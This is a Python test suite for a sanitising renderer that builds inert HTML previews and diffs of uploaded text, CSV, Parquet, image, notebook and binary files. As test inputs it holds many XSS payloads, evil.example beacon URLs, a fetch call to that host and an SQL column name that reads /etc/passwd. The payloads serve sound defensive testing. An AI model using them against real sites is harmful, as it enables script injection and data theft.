"""Safe previews and diffs of researcher-made files (cleanroom.airlock.inspect.previews).

Each hostile file is rendered, then the output is parsed with html.parser and checked to hold
no active part: no script or frame-like element, no on* attribute, no URL but data: images of
PNG or JPEG. Bounds are checked on bytes really read (/proc/self/io), never on time.
"""

from __future__ import annotations

import base64
import json
import struct
import zlib
from html.parser import HTMLParser
from importlib.resources import files
from pathlib import Path

import duckdb
import pytest
from pygments.formatters import HtmlFormatter

from cleanroom.airlock.inspect import mediatypes as mt
from cleanroom.airlock.inspect.previews import (
    LIMITS,
    PREVIEW_CSP,
    render_diff,
    render_preview,
    sanitise_html,
)

from .test_mediatypes import (
    PICKLE_BYTES,
    bytes_read,
    jpeg_bytes,
    notebook_dict,
    onnx_bytes,
    parquet_file,
    png_bytes,
    png_chunk,
    safetensors_bytes,
    sparse_file,
)

ACTIVE_ELEMENTS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "style",
    "link",
    "meta",
    "base",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "video",
    "audio",
    "source",
    "track",
    "canvas",
    "template",
    "portal",
    "noscript",
    "foreignobject",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcset", "data", "poster"}
SAFE_SRC = ("data:image/png;base64,", "data:image/jpeg;base64,")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def visible_text(fragment: str) -> str:
    """The text a browser would show (tags dropped, entities decoded)."""
    parser = _Collector()
    parser.feed(fragment)
    parser.close()
    return "".join(parser.text)


def assert_inert(fragment: str) -> list[tuple[str, list]]:
    """Fail if the HTML has anything that could run, load or navigate; return its tags."""
    parser = _Collector()
    parser.feed(fragment)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in ACTIVE_ELEMENTS, f"active element <{tag}> in {fragment[:2000]}"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name} on <{tag}>"
            assert name != "style", f"inline style on <{tag}>"
            squashed = "".join((value or "").split()).lower()
            assert "javascript:" not in squashed and "vbscript:" not in squashed
            if name in URL_ATTRIBUTES:
                assert name == "src" and tag == "img", f"URL attribute {name} on <{tag}>"
                assert (value or "").startswith(SAFE_SRC), f"img src {value[:80]!r}"
    return parser.tags


def images(fragment: str) -> list[str]:
    tags = assert_inert(fragment)
    return [src for tag, attrs in tags if tag == "img" and (src := dict(attrs).get("src"))]


def _write(tmp_path: Path, content: bytes | str, name: str = "blob") -> Path:
    path = tmp_path / name
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


HOSTILE_TEXT = (
    "<script>alert(1)</script>\n<img src=x onerror=alert(2)>\n"
    '<a href="javascript:alert(3)">click</a>\n<iframe src="https://evil.example/"></iframe>\n'
    "<svg onload=alert(4)><script>alert(5)</script></svg>\n"
    '"><style>@import url(https://evil.example/x.css)</style>\n'
    "&lt;script&gt; already-escaped\n"
)


# --- text and code ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "media_type", ["text/plain", "text/markdown", "text/x-python", "text/x-r", "text/x-sql"]
)
def test_text_and_code_are_escaped_and_highlighted(tmp_path, media_type):
    fragment = render_preview(_write(tmp_path, HOSTILE_TEXT), media_type, "f")
    assert_inert(fragment)
    assert 'class="cr-hl"' in fragment
    # all of it is there, as the text a reviewer reads
    assert HOSTILE_TEXT in visible_text(fragment)


def test_python_is_highlighted_with_classes_only(tmp_path):
    fragment = render_preview(_write(tmp_path, "def f():\n    return 1\n"), "text/x-python", "f.py")
    assert '<span class="k">def</span>' in fragment
    assert "style=" not in fragment


def test_bidirectional_and_invisible_characters_are_revealed(tmp_path):
    source = 'access = "user\u202e \u2066// admin\u2069 \u2066"\nx\u200b = 1\n'
    fragment = render_preview(_write(tmp_path, source), "text/x-python", "f.py")
    assert_inert(fragment)
    for code in ("U+202E", "U+2066", "U+2069", "U+200B"):
        assert f"⟨{code}⟩" in fragment
    assert "\u202e" not in fragment and "\u200b" not in fragment
    assert "bidirectional" in fragment


def test_text_past_the_highlight_bound_is_escaped_without_lexing(tmp_path):
    source = "def f(): return '<script>'\n" * (LIMITS.highlight_chars // 20)
    fragment = render_preview(_write(tmp_path, source), "text/x-python", "f.py")
    assert_inert(fragment)
    assert "without highlighting" in fragment and '<span class="k">' not in fragment
    assert source[: LIMITS.text_bytes // 2] in visible_text(fragment)


def test_many_control_characters_cannot_blow_up_the_page(tmp_path):
    path = _write(tmp_path, "\x00" * 100_000 + "ok" + "\x00\x01" * 100_000)
    fragment = render_preview(path, "text/plain", "f.txt")
    assert_inert(fragment)
    assert "⟨U+0000 ×100,000⟩" in fragment and "ok" in fragment
    assert fragment.count("cr-reveal") <= LIMITS.reveal_marks
    assert len(fragment) < 2 * 1024 * 1024


def test_svg_is_never_inline(tmp_path):
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        "<script>alert(2)</script><foreignObject><iframe src='javascript:alert(3)'/>"
        "</foreignObject></svg>"
    )
    fragment = render_preview(_write(tmp_path, svg), "image/svg+xml", "f.svg")
    tags = assert_inert(fragment)
    assert not any(tag == "img" for tag, _ in tags)
    assert "never rendered" in fragment and "&lt;script&gt;" in fragment


def test_a_long_text_is_cut_and_says_so(tmp_path):
    path = _write(tmp_path, "".join(f"line {i}\n" for i in range(LIMITS.text_lines + 100)))
    fragment = render_preview(path, "text/plain", "f.txt")
    assert f"line {LIMITS.text_lines - 1}\n" in fragment
    assert f"line {LIMITS.text_lines}\n" not in fragment
    assert "Showing the first" in fragment


# --- tables -------------------------------------------------------------------------------


def test_csv_cells_with_html_are_text(tmp_path):
    csv_text = (
        'plant,"<b onmouseover=alert(1)>yield</b>"\n'
        '"<script>alert(2)</script>","<img src=x onerror=alert(3)>"\n'
        '"javascript:alert(4)",0.5\n'
    )
    fragment = render_preview(_write(tmp_path, csv_text), "text/csv", "t.csv")
    tags = assert_inert(fragment)
    assert [t for t, _ in tags].count("td") == 4
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in fragment
    assert "2 rows × 2 columns" in fragment


def test_csv_shape_is_counted_and_the_table_is_bounded(tmp_path):
    columns = LIMITS.table_columns + 5
    header = ",".join(f"c{i}" for i in range(columns))
    long_cell = "x" * (LIMITS.cell_chars + 50)
    rows = [",".join([long_cell] + [str(r)] * (columns - 1)) for r in range(20_000)]
    path = _write(tmp_path, header + "\n" + "\n".join(rows) + "\n")
    fragment = render_preview(path, "text/csv", "t.csv")
    assert f"20,000 rows × {columns} columns" in fragment
    tags = [t for t, _ in assert_inert(fragment)]
    assert tags.count("tr") == LIMITS.table_rows + 1
    assert tags.count("th") == LIMITS.table_columns
    assert "x" * (LIMITS.cell_chars + 1) not in fragment and "50 more chars" in fragment


def test_a_csv_that_does_not_parse_is_shown_as_text(tmp_path):
    path = _write(tmp_path, 'a,b\n"' + "x" * 200_000 + '",1\n')  # over csv's field limit
    fragment = render_preview(path, "text/csv", "t.csv")
    assert_inert(fragment)
    assert "does not parse" in fragment and 'class="cr-hl"' in fragment


def test_parquet_shows_shape_types_and_first_rows(tmp_path):
    path = parquet_file(tmp_path / "t.parquet", rows=1234)
    fragment = render_preview(path, mt.PARQUET, "t.parquet")
    tags = [t for t, _ in assert_inert(fragment)]
    assert "1,234 rows × 3 columns" in fragment
    assert "BIGINT" in fragment and "plant-3" in fragment
    assert tags.count("tr") == LIMITS.table_rows + 2  # names, types, rows


def test_parquet_with_hostile_column_names_and_values(tmp_path):
    path = tmp_path / "h.parquet"
    con = duckdb.connect()
    con.execute(
        "CREATE TABLE h AS SELECT '<script>alert(1)</script>' AS \"<img src=x onerror=alert(2)>\","
        ' \'x\' AS "a"" FROM read_csv(\'/etc/passwd\') --", NULL AS "javascript:alert(3)"'
    )
    con.execute(f"COPY h TO '{path}' (FORMAT parquet)")
    con.close()
    fragment = render_preview(path, mt.PARQUET, "h.parquet")
    assert_inert(fragment)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in fragment
    assert "read_csv(&#x27;/etc/passwd&#x27;)" in fragment  # a name, shown, never run
    assert "root:" not in fragment and 'class="cr-null"' in fragment


def test_parquet_preview_reads_the_first_row_group_only(tmp_path):
    path = tmp_path / "big.parquet"
    con = duckdb.connect()
    con.execute(
        f"COPY (SELECT range AS id, md5(range::VARCHAR) || md5((range * 7)::VARCHAR) AS v "
        f"FROM range(2000000)) TO '{path}' (FORMAT parquet, ROW_GROUP_SIZE 20000, "
        f"COMPRESSION uncompressed)"
    )
    con.close()
    size = path.stat().st_size
    before = bytes_read()
    fragment = render_preview(path, mt.PARQUET, "big.parquet")
    read = bytes_read() - before
    assert "2,000,000 rows × 2 columns" in fragment
    assert read < size / 10, f"read {read} of {size} bytes"


def test_a_large_first_row_group_shows_the_schema_but_no_rows(tmp_path, monkeypatch):
    small = type(LIMITS)(parquet_row_group_bytes=1024)
    monkeypatch.setattr("cleanroom.airlock.inspect.previews.common.LIMITS", small)
    path = parquet_file(tmp_path / "t.parquet", rows=5000)
    fragment = render_preview(path, mt.PARQUET, "t.parquet")
    assert "5,000 rows × 3 columns" in fragment and "too large" in fragment
    assert "plant-3" not in fragment and "VARCHAR" in fragment


def test_garbage_named_parquet_gets_a_note(tmp_path):
    fragment = render_preview(_write(tmp_path, b"PAR1" + b"\xff" * 100 + b"PAR1"), mt.PARQUET, "p")
    assert_inert(fragment)
    assert "Not a readable Parquet file" in fragment or "could not be read" in fragment


def test_parquet_with_a_crafted_footer_gets_a_note(tmp_path):
    footer = b"\x15\x00" + b"\x19\xfc\xff\xff\xff\x0f" + b"\x00" * 30
    data = b"PAR1" + footer + struct.pack("<I", len(footer)) + b"PAR1"
    fragment = render_preview(_write(tmp_path, data), mt.PARQUET, "p.parquet")
    assert_inert(fragment)
    assert "could not be read" in fragment and "sha256" in fragment


# --- images -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("media_type", "data"), [("image/png", png_bytes()), ("image/jpeg", jpeg_bytes())]
)
def test_images_are_data_uris_of_their_checked_type(tmp_path, media_type, data):
    fragment = render_preview(_write(tmp_path, data), media_type, '"><script>alert(1)</script>')
    (src,) = images(fragment)
    assert src == f"data:{media_type};base64," + base64.b64encode(data).decode()
    assert "&lt;script&gt;" in fragment  # the name, escaped in alt
    assert ("3×2 pixels" if media_type == "image/png" else "4×3 pixels") in fragment


def test_a_jpeg_without_a_frame_header_is_not_shown(tmp_path):
    data = b"\xff\xd8\xff\xfe\x00\x04hi\xff\xd9"  # start, a comment, end: no frame
    fragment = render_preview(_write(tmp_path, data), "image/jpeg", "x.jpg")
    assert images(fragment) == [] and "no readable size" in fragment


@pytest.mark.parametrize(
    "data", [b"<script>alert(1)</script>", jpeg_bytes(), png_bytes()[:40], b""]
)
def test_content_that_is_not_the_claimed_image_is_not_shown(tmp_path, data):
    fragment = render_preview(_write(tmp_path, data), "image/png", "x.png")
    assert images(fragment) == []
    assert "not a whole image/png" in fragment


def test_data_carried_beside_the_pixels_is_listed(tmp_path):
    extra = (
        png_chunk(b"tEXt", b"Software\x00matplotlib <script>")
        + png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"SECRET-ROWS " * 50))
        + png_chunk(b"prVt", b"\x00\x01SECRET-PRIVATE")
        + png_chunk(b"pHYs", bytes(9))
    )
    fragment = render_preview(_write(tmp_path, png_bytes(extra_chunks=extra)), mt.PNG, "f.png")
    assert_inert(fragment)
    assert len(images(fragment)) == 1
    assert "3 blocks of data besides its pixels" in fragment
    assert "Software: matplotlib &lt;script&gt;" in fragment
    assert "Comment: SECRET-ROWS" in fragment and "SECRET-PRIVATE" in fragment
    assert "pHYs" not in fragment

    jpeg = render_preview(_write(tmp_path, jpeg_bytes(comment=b"SECRET-COMMENT")), mt.JPEG, "f")
    assert "COM" in jpeg and "SECRET-COMMENT" in jpeg and "APP0" in jpeg


def test_a_plain_image_lists_no_extra_data(tmp_path):
    fragment = render_preview(_write(tmp_path, png_bytes()), mt.PNG, "f.png")
    assert "besides its pixels" not in fragment


def test_an_image_with_huge_dimensions_is_not_put_in_the_page(tmp_path):
    data = bytearray(png_bytes())
    data[16:24] = struct.pack(">II", 100_000, 100_000)
    crc = zlib.crc32(bytes(data[12:29]))
    data[29:33] = struct.pack(">I", crc)
    fragment = render_preview(_write(tmp_path, bytes(data)), "image/png", "x.png")
    assert images(fragment) == [] and "too large" in fragment


# --- notebooks ----------------------------------------------------------------------------


def hostile_notebook() -> dict:
    return notebook_dict(
        [
            {"cell_type": "markdown", "metadata": {}, "source": ["# Title\n", HOSTILE_TEXT]},
            {
                "cell_type": "code",
                "execution_count": 1,
                "metadata": {"exfil": "SECRET-IN-CELL-METADATA"},
                "source": "display(df)",
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {
                            "text/html": HOSTILE_TEXT
                            + '<table><tr><td style="background:url(https://evil.example/)">'
                            "42</td></tr></table><form action=/hub/api><button>ok</button></form>"
                            '<img src="https://evil.example/beacon.png">'
                            '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
                            "text/plain": "SECRET-IN-PLAIN-TEXT",
                            "application/javascript": "fetch('https://evil.example/')",
                            "image/png": base64.b64encode(png_bytes()).decode(),
                            "image/jpeg": base64.b64encode(b"<script>alert(6)</script>").decode(),
                            "image/svg+xml": "<svg onload=alert(7)></svg>",
                            "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
                        },
                    },
                    {"output_type": "stream", "name": "stdout", "text": ["\x1b[31m<b>x</b>\n"]},
                    {
                        "output_type": "error",
                        "ename": "<script>",
                        "evalue": "onerror=alert(8)",
                        "traceback": ["\x1b[0;31m<iframe src=javascript:alert(9)>"],
                    },
                    {"output_type": "made-up", "data": "<script>alert(10)</script>"},
                    "<script>alert(11)</script>",
                ],
            },
            {"cell_type": "raw", "metadata": {}, "source": "<script>alert(12)</script>"},
        ]
    )


def test_a_hostile_notebook_renders_with_no_active_part(tmp_path):
    path = _write(tmp_path, json.dumps(hostile_notebook()), "n.ipynb")
    fragment = render_preview(path, mt.NOTEBOOK, "n.ipynb")
    srcs = images(fragment)  # asserts inert
    assert srcs == ["data:image/png;base64," + base64.b64encode(png_bytes()).decode()]
    assert "JavaScript output dropped" in fragment
    assert "SVG output shown as source text" in fragment
    assert "<td>42</td>" in fragment  # sanitised HTML still shows its table
    assert "not a whole image/jpeg" in fragment
    # every representation and the metadata are shown: all of them would leave
    assert "SECRET-IN-PLAIN-TEXT" in fragment and "SECRET-IN-CELL-METADATA" in fragment
    assert "\x1b" not in fragment


def test_notebook_outputs_cannot_exhaust_the_preview(tmp_path):
    big_output = {"output_type": "stream", "name": "stdout", "text": "y" * 100_000}
    cells = [
        {"cell_type": "code", "metadata": {}, "source": "x", "outputs": [big_output]}
        for _ in range(120)
    ]
    path = _write(tmp_path, json.dumps(notebook_dict(cells)), "n.ipynb")
    fragment = render_preview(path, mt.NOTEBOOK, "n.ipynb")
    assert len(fragment) < LIMITS.notebook_total_chars + 100_000
    assert "Preview cut" in fragment and "more chars" in fragment


def test_a_broken_notebook_is_shown_as_text(tmp_path):
    path = _write(tmp_path, '{"cells": [<script>alert(1)</script>', "n.ipynb")
    fragment = render_preview(path, mt.NOTEBOOK, "n.ipynb")
    assert_inert(fragment)
    assert "Not a readable notebook" in fragment and "&lt;script&gt;" in fragment


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<object data='javascript:alert(1)'></object>",
        "<embed src='https://evil.example/x.swf'>",
        "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
        "<base href='https://evil.example/'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<div style='background:url(javascript:alert(1))'>x</div>",
        "<form action='https://evil.example/'><input name=x></form>",
        "<details open ontoggle=alert(1)>x</details>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<img srcset='https://evil.example/a.png 1x'>",
        "<table background='https://evil.example/a.png'><tr><td>x</td></tr></table>",
        "<!--><script>alert(1)</script>-->",
        "<p id='cr-approve' class='btn'>Approved</p>",
    ],
)
def test_html_sanitiser_leaves_nothing_active(payload):
    cleaned = sanitise_html(payload)
    assert_inert(cleaned)
    assert " id=" not in cleaned and " class=" not in cleaned and "evil.example" not in cleaned


# --- binaries -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("media_type", "data"),
    [
        ("application/octet-stream", PICKLE_BYTES),
        ("application/pdf", b"%PDF-1.4\n<script>alert(1)</script>\n%%EOF\n"),
        ("application/x-safetensors", safetensors_bytes({"note": "<script>alert(1)</script>"})),
        ("application/onnx", onnx_bytes("<script>alert(1)</script>")),
    ],
)
def test_binaries_show_size_and_sha256_only(tmp_path, media_type, data):
    import hashlib

    fragment = render_preview(_write(tmp_path, data), media_type, "m")
    assert_inert(fragment)
    assert hashlib.sha256(data).hexdigest() in fragment
    assert f"{len(data):,} bytes" in fragment


def test_safetensors_lists_tensors_not_values(tmp_path):
    data = safetensors_bytes()
    fragment = render_preview(_write(tmp_path, data), mt.SAFETENSORS, "m.safetensors")
    assert "weight" in fragment and "F32" in fragment and "2×3" in fragment


def test_the_stores_hash_is_used_when_given(tmp_path):
    fragment = render_preview(
        _write(tmp_path, PICKLE_BYTES), mt.OCTET_STREAM, "m", sha256="ab" * 32
    )
    assert "ab" * 32 in fragment


def test_only_regular_files_are_previewed(tmp_path):
    link = tmp_path / "link"
    link.symlink_to(_write(tmp_path, "x"))
    with pytest.raises(ValueError, match="symbolic link"):
        render_preview(link, "text/plain", "x")


# --- bounded work -------------------------------------------------------------------------

_TWO_GB_CASES = [
    ("text/csv", b"a,b\n1,2\n"),
    ("text/plain", b"hello\n"),
    ("text/x-python", b"print(1)\n"),
    ("image/svg+xml", b"<svg></svg>"),
    ("image/png", png_bytes()),
    ("image/jpeg", jpeg_bytes()),
    ("application/x-ipynb+json", json.dumps(notebook_dict()).encode()),
    ("application/vnd.apache.parquet", b"PAR1"),
    ("application/octet-stream", PICKLE_BYTES),
    ("application/x-safetensors", safetensors_bytes()),
    ("application/onnx", onnx_bytes()),
]


@pytest.mark.parametrize(("media_type", "head"), _TWO_GB_CASES, ids=[c[0] for c in _TWO_GB_CASES])
def test_a_2gb_file_previews_from_a_bounded_read(tmp_path, media_type, head):
    path = sparse_file(tmp_path / "big", head)
    before = bytes_read()
    fragment = render_preview(path, media_type, "big")
    read = bytes_read() - before
    assert_inert(fragment)
    assert read < 4 * 1024 * 1024, f"read {read:,} bytes"
    assert "2,147,483,648 bytes" in fragment or "Showing the first" in fragment


def test_a_2gb_diff_reads_a_bounded_part(tmp_path):
    old = sparse_file(tmp_path / "old", b"a\nb\n")
    new = sparse_file(tmp_path / "new", b"a\nc\n")
    before = bytes_read()
    fragment = render_diff(old, new, "text/plain", "big.txt")
    assert bytes_read() - before < 8 * 1024 * 1024
    assert_inert(fragment)
    assert "-b" in fragment and "+c" in fragment and "were compared" in fragment


# --- diffs --------------------------------------------------------------------------------


def test_a_text_diff_is_escaped_and_marked(tmp_path):
    old = _write(tmp_path, "x = 1\ny = 2\n", "old")
    new = _write(tmp_path, "x = 1\ny = '<script>alert(1)</script>'\n", "new")
    fragment = render_diff(old, new, "text/x-python", "<img src=x onerror=alert(2)>.py")
    assert_inert(fragment)
    assert '<span class="cr-diff-del">-y = 2</span>' in fragment
    assert "+y = &#x27;&lt;script&gt;alert(1)&lt;/script&gt;&#x27;" in fragment


def test_deleted_lines_that_look_like_headers_are_still_deletions(tmp_path):
    old = _write(tmp_path, "select 1;\n-- keep out\n++ x\n", "old")
    new = _write(tmp_path, "select 1;\n", "new")
    fragment = render_diff(old, new, "text/x-sql", "q.sql")
    assert '<span class="cr-diff-del">--- keep out</span>' in fragment
    assert '<span class="cr-diff-del">-++ x</span>' in fragment
    assert fragment.count("cr-diff-file") == 2


def test_huge_versions_equal_in_the_compared_part_are_not_called_identical(tmp_path):
    old = sparse_file(tmp_path / "old", b"same\n")
    new = sparse_file(tmp_path / "new", b"same\n")
    with open(new, "r+b") as f:
        f.seek(-1, 2)
        f.write(b"!")
    fragment = render_diff(old, new, "text/plain", "big.txt")
    assert "identical" not in fragment and "hashes not compared here" in fragment
    given = render_diff(old, new, "text/plain", "big.txt", old_sha256="a" * 64, new_sha256="b" * 64)
    assert "a" * 64 in given and "bytes differ" in given


def test_identical_versions_say_so(tmp_path):
    old, new = _write(tmp_path, "a\n", "old"), _write(tmp_path, "a\n", "new")
    assert "identical" in render_diff(old, new, "text/plain", "a.txt")


def test_bytes_that_differ_only_in_line_endings_are_not_called_equal(tmp_path):
    old, new = _write(tmp_path, "a\nb\n", "old"), _write(tmp_path, "a\r\nb\r\n", "new")
    fragment = render_diff(old, new, "text/plain", "a.txt")
    assert "identical" not in fragment and "bytes differ" in fragment


def test_binary_versions_give_both_hashes_and_sizes(tmp_path):
    import hashlib

    old, new = _write(tmp_path, PICKLE_BYTES, "old"), _write(tmp_path, PICKLE_BYTES + b"x", "new")
    fragment = render_diff(old, new, mt.OCTET_STREAM, "m.pkl")
    assert_inert(fragment)
    assert "Binary files differ" in fragment
    for data in (PICKLE_BYTES, PICKLE_BYTES + b"x"):
        assert hashlib.sha256(data).hexdigest() in fragment and f"{len(data):,} bytes" in fragment


def test_a_notebook_diff_shows_source_output_and_metadata_changes(tmp_path):
    nb = hostile_notebook()
    old = _write(tmp_path, json.dumps(nb), "old")
    nb["cells"][1]["source"] = "display(df.head())"
    nb["cells"][1]["metadata"]["exfil"] = "ANOTHER-SECRET"
    nb["cells"][1]["outputs"][0]["data"]["image/png"] = base64.b64encode(png_bytes(5, 5)).decode()
    new = _write(tmp_path, json.dumps(nb), "new")
    fragment = render_diff(old, new, mt.NOTEBOOK, "n.ipynb")
    assert_inert(fragment)
    assert "+display(df.head())" in fragment and "-display(df)" in fragment
    assert "ANOTHER-SECRET" in fragment
    assert fragment.count("[image/png:") >= 2  # the changed image shows as a changed hash


# --- page policy ----------------------------------------------------------------------------


def test_the_page_policy_runs_and_loads_nothing():
    PREVIEW_CSS = files("cleanroom.airlock.web").joinpath("static/previews.css").read_text()
    directives = dict(d.strip().split(" ", 1) for d in PREVIEW_CSP.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == "'none'"
    assert directives["img-src"] == "data:"
    assert directives["object-src"] == "'none'" and directives["base-uri"] == "'none'"
    assert directives["frame-ancestors"] == "'none'"
    assert "url(" not in PREVIEW_CSS and "@import" not in PREVIEW_CSS
    assert ".cr-hl .k" in PREVIEW_CSS
    # The static file holds pygments' current colours for the classes highlighting writes.
    assert all(rule in PREVIEW_CSS for rule in HtmlFormatter().get_token_style_defs(".cr-hl"))
    rules = [line for line in PREVIEW_CSS.splitlines() if "{" in line]
    assert rules and all(line.startswith(".cr-") for line in rules)  # never restyles the page
